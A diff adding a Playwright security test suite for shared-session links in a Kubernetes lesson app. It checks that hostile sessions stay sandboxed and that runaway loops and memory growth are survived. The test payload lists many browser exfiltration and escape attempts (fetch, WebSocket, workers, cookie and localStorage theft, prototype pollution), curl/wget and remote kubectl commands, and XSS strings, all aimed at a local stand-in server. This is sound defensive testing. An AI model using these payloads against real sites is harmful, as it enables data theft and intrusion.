@@ -1,0 +1,219 @@
+/** A link with a hostile session: nothing runs before a click, and what then runs gets nothing and nowhere. */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, type Page, test } from '@playwright/test';
+import { linkOf, type SharedSession } from '../../src/lesson/share/link.ts';
+import type { Input } from '../../src/session/types.ts';
+import { awake, button, cell, lesson, notice, outputOf, pane, runCell } from './steps.ts';
+
+/** Somebody's server, which must hear nothing: HTTP and websockets both begin with a connection. */
+let server: Server;
+let hits: string[] = [];
+let host = '';
+test.beforeAll(async () => {
+  server = createServer((request, response) => {
+    hits.push(request.url ?? '');
+    response.setHeader('access-control-allow-origin', '*');
+    response.end('globalThis.leaked = true');
+  });
+  server.on('connection', () => hits.push('connection'));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+test.afterAll(() => void server.close());
+
+/** Tries everything, through whatever names the realm's own global has; tells what it got. Runs wherever code can be. */
+const attack = (where: string): string => `
+const real = (() => { try { return (0, eval)('globalThis'); } catch { return Function('return this')(); } })();
+const also = (() => { try { return (() => {}).constructor('return this')(); } catch { return real; } })();
+const url = 'http://${host}/${where}';
+const got = {};
+const attempt = (name, run) => { try { const value = run(real); got[name] = typeof value; if (value && value.then) value.then(() => { got[name] = 'REACHED'; }, () => { got[name] = 'refused'; }); } catch (error) { got[name] = 'refused'; } };
+attempt('fetch', (g) => g.fetch(url));
+attempt('fetchNoCors', (g) => g.fetch(url, { mode: 'no-cors', keepalive: true }));
+attempt('fetchOther', () => also.fetch(url + '-other'));
+attempt('xhr', (g) => { const x = new g.XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.responseText; });
+attempt('socket', (g) => { new g.WebSocket('ws://${host}/${where}').onopen = () => { got.socket = 'REACHED'; }; });
+attempt('events', (g) => { new g.EventSource(url).onopen = () => { got.events = 'REACHED'; }; });
+attempt('transport', (g) => new g.WebTransport('https://${host}/').ready);
+attempt('module', () => (0, eval)('import(' + JSON.stringify(url + '.js') + ')'));
+attempt('dataModule', () => (0, eval)('import("data:text/javascript,fetch(\\'' + url + '-data\\')")'));
+attempt('blobModule', (g) => (0, eval)('import')(g.URL.createObjectURL(new g.Blob(['fetch("' + url + '-blob")'], { type: 'text/javascript' }))));
+attempt('script', (g) => g.importScripts(url + '-script.js'));
+attempt('worker', (g) => { new g.Worker(g.URL.createObjectURL(new g.Blob(['fetch("' + url + '-worker"); new WebSocket("ws://${host}/nested")'], { type: 'text/javascript' }))); });
+attempt('shared', (g) => { new g.SharedWorker(url + '-shared.js'); });
+attempt('beacon', (g) => { if (g.navigator.sendBeacon(url)) got.beacon = 'REACHED'; });
+attempt('service', (g) => g.navigator.serviceWorker.register(url + '-service.js'));
+attempt('rtc', (g) => { new g.RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }).createDataChannel('x'); got.rtc = 'REACHED'; });
+attempt('image', (g) => { new g.Image().src = url + '-image'; got.image = 'REACHED'; });
+attempt('open', (g) => { if (g.open(url)) got.open = 'REACHED'; });
+attempt('link', (g) => { const l = g.document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + '${host}'; g.document.head.append(l); got.link = 'REACHED'; });
+attempt('database', (g) => { g.indexedDB.open('keyval-store').onsuccess = () => { got.database = 'REACHED'; }; });
+attempt('caches', (g) => g.caches.open('x'));
+attempt('files', (g) => g.navigator.storage.getDirectory());
+attempt('cookie', (g) => { got.cookie = g.document.cookie; g.document.cookie = 'stolen=1'; });
+attempt('cookieStore', (g) => g.cookieStore.getAll());
+attempt('local', (g) => { g.localStorage.setItem('stolen', '1'); got.local = 'REACHED'; });
+attempt('channel', (g) => { new g.BroadcastChannel('converge').postMessage('${where}'); });
+attempt('parent', (g) => { got.parent = String(g.parent.document.title); });
+attempt('top', (g) => { g.top.location = url + '-top'; got.top = 'REACHED'; });
+attempt('post', (g) => g.postMessage({ type: 'converge-frame', message: '${where}' }));
+attempt('shared memory', (g) => { const s = new g.SharedArrayBuffer(8); got['shared memory'] = 'REACHED'; return s; });
+attempt('prototypes', () => { Object.defineProperty({}.__proto__, 'polluted', { value: '${where}', configurable: true }); });
+attempt('constructor', () => { JSON.parse('{"__proto__":{"polluted":"json"}}'); });`;
+
+const tell = (line: string): string => `${line}(JSON.stringify(got));`;
+const slow = `await sleep(50);`;
+const controller = `import { ReplicaSet } from 'converge/sdk';
+import './other.ts';
+${attack('controller')}
+export default { name: 'replicaset', for: ReplicaSet, async reconcile() { ${attack('reconcile')} ${tell('console.log')} } };`;
+
+const inputs: readonly Omit<Input, 'at'>[] = [
+  { type: 'edit', path: 'other.ts', text: `${attack('import')}\nexport {};` },
+  { type: 'edit', path: 'evil.ts', text: controller },
+  { type: 'swap', controller: 'replicaset', entry: 'evil.ts' },
+  {
+    type: 'manifest',
+    path: 'web.yaml',
+    cell: 'apply',
+    text: `apiVersion: apps/v1
+kind: ReplicaSet
+metadata: { name: web, annotations: { x: '<img src=http://${host}/annotation onerror=alert(1)>' } }
+spec: { replicas: 1, selector: { matchLabels: { app: web } }, template: { metadata: { labels: { app: web } }, spec: { containers: [{ name: c, image: 'http://${host}/image' }] } } }
+`,
+  },
+  {
+    type: 'command',
+    cell: 'list',
+    text: `kubectl apply -f http://${host}/kubectl; kubectl run x --image=${host}/image; curl http://${host}/curl; wget ${host}; echo '<script src=http://${host}/echo></script>'`,
+  },
+  { type: 'script', cell: 'owners', source: `${attack('script')}\n${slow}\n${tell('print')}` },
+];
+const shared = (more: readonly Omit<Input, 'at'>[] = inputs): SharedSession => ({
+  lesson: '12-replicaset',
+  lessonHash: '00000000',
+  log: { version: 1, seed: 1, cluster: { nodes: 3, plain: true }, files: {}, inputs: more.map((each, at): Input => ({ ...each, at }) as Input) },
+  files: { 'reconcile.ts': `${attack('exercise')}\n` },
+  cells: { owners: '<img src=x onerror=alert(1)>' },
+  free: [],
+});
+
+/** Requests to anywhere but the site, and what the page's own things have become. */
+function watch(page: Page): string[] {
+  const requests: string[] = [];
+  page.context().on('request', (request) => {
+    const { protocol, port } = new URL(request.url());
+    const own = new URL(page.url() === 'about:blank' ? request.url() : page.url()).port;
+    if (protocol.startsWith('http') && port !== own) requests.push(request.url());
+  });
+  page.on('dialog', (dialog) => {
+    requests.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on('popup', (popup) => requests.push(`popup: ${popup.url()}`));
+  page.on('websocket', (socket) => requests.push(`socket: ${socket.url()}`));
+  return requests;
+}
+
+const asked = (page: Page) => page.getByRole('dialog', { name: 'Somebody else’s session' });
+
+test('a hostile link runs nothing before a click, and then gets nothing and nowhere', async ({ page, context }) => {
+  hits = [];
+  await page.goto(lesson);
+  await awake(cell(page, 'apply'));
+  await runCell(page, 'apply');
+  const own = await outputOf(page, 'apply').innerText();
+  await page.evaluate(() => {
+    document.cookie = 'own=1; path=/';
+    localStorage.setItem('own', 'secret');
+  });
+  const requests = watch(page);
+  const fragment = linkOf(shared());
+  if (fragment === undefined) throw new Error('too long');
+
+  await test.step('it says what is in it and waits; no engine runs', async () => {
+    await page.goto('about:blank');
+    await page.goto(`${lesson}#${fragment}`);
+    await expect(asked(page)).toBeVisible();
+    await expect(asked(page)).toContainText('It runs 6 inputs');
+    await asked(page).getByText('Writes evil.ts').click();
+    await expect(asked(page)).toContainText('SharedArrayBuffer');
+    await expect(page.locator('iframe')).toHaveCount(0);
+  });
+
+  await test.step('declined, one’s own work is there', async () => {
+    await button(asked(page), 'Open my own instead').click();
+    await expect(page).toHaveURL(new RegExp(`${lesson}$`));
+    await awake(cell(page, 'apply'));
+    await expect(cell(page, 'apply')).toHaveClass(/fresh/);
+    expect(await outputOf(page, 'apply').innerText()).toBe(own);
+  });
+
+  await test.step('agreed to, it runs, and reaches nothing', async () => {
+    await page.goto('about:blank');
+    await page.goto(`${lesson}#${fragment}`);
+    await button(asked(page), 'Run their session').click();
+    await expect(page.locator('.shared-bar')).toContainText('your own work is untouched');
+    await awake(cell(page, 'owners'));
+    await expect(cell(page, 'owners')).toHaveClass(/stale|fresh/, { timeout: 60_000 });
+    const text = await outputOf(page, 'owners').locator('pre').innerText();
+    const got: Record<string, string> = JSON.parse(text.slice(text.indexOf('{')));
+    expect(Object.entries(got).filter(([, value]) => value === 'REACHED')).toEqual([]);
+    expect(got).toMatchObject({ fetch: 'refused', xhr: 'refused', module: 'refused', script: 'refused', caches: 'refused' });
+    expect(Object.keys(got).length).toBeGreaterThan(30);
+  });
+
+  await test.step('the page is as it was', async () => {
+    const state = await page.evaluate(() => ({
+      polluted: Reflect.get({}, 'polluted'),
+      stolen: localStorage.getItem('stolen'),
+      own: localStorage.getItem('own'),
+      cookie: document.cookie,
+      leaked: Reflect.get(globalThis, 'leaked'),
+      title: document.title,
+      images: document.querySelectorAll('img').length,
+    }));
+    expect(state).toMatchObject({ own: 'secret', cookie: 'own=1', images: 0, stolen: null });
+    expect([state.polluted, state.leaked]).toEqual([undefined, undefined]);
+    expect(context.pages().length).toBe(1);
+    expect(requests).toEqual([]);
+    expect(hits).toEqual([]);
+  });
+
+  await test.step('back to mine: nothing of theirs has stayed', async () => {
+    await button(page, 'Back to mine').click();
+    await awake(cell(page, 'apply'));
+    await expect(cell(page, 'apply')).toHaveClass(/fresh/);
+    expect(await outputOf(page, 'apply').innerText()).toBe(own);
+    await expect(page.locator('.shared-bar')).toHaveCount(0);
+    await expect(pane(page)).not.toContainText('web-x');
+  });
+});
+
+test('an endless loop and a memory that grows without end are survived', async ({ page }) => {
+  const requests = watch(page);
+  const open = async (source: string): Promise<void> => {
+    await page.goto('about:blank');
+    await page.goto(`${lesson}#${linkOf(shared([{ type: 'script', cell: 'owners', source }]))}`);
+    await button(asked(page), 'Run their session').click();
+    await expect(notice(page)).toHaveText(/never gave the turn back|stopped answering|needed more memory/, { timeout: 60_000 });
+    await button(page, 'Back to mine').click();
+    await awake(cell(page, 'apply'));
+    await runCell(page, 'apply');
+    await expect(cell(page, 'apply')).toHaveClass(/fresh|unquiet/);
+  };
+  await open('for (;;) {}');
+  await open('const held = []; for (;;) held.push(new Array(1e6).fill(held.length));');
+  await open('const held = []; for (;;) { held.push(new Uint8Array(2 ** 26).fill(1)); await sleep(1); }');
+  expect(requests).toEqual([]);
+});
+
+test('a link that can’t be read says so, and the page opens without it', async ({ page }) => {
+  await page.goto(`${lesson}#session=1.abc.AAAA`);
+  const refused = page.getByRole('dialog', { name: 'This link can’t be opened' });
+  await expect(refused).toContainText('cut off or changed on its way');
+  await button(refused, 'Open the page without it').click();
+  await expect(page).toHaveURL(new RegExp(`${lesson}$`));
+  await expect(page.getByRole('dialog')).toHaveCount(0);
+});
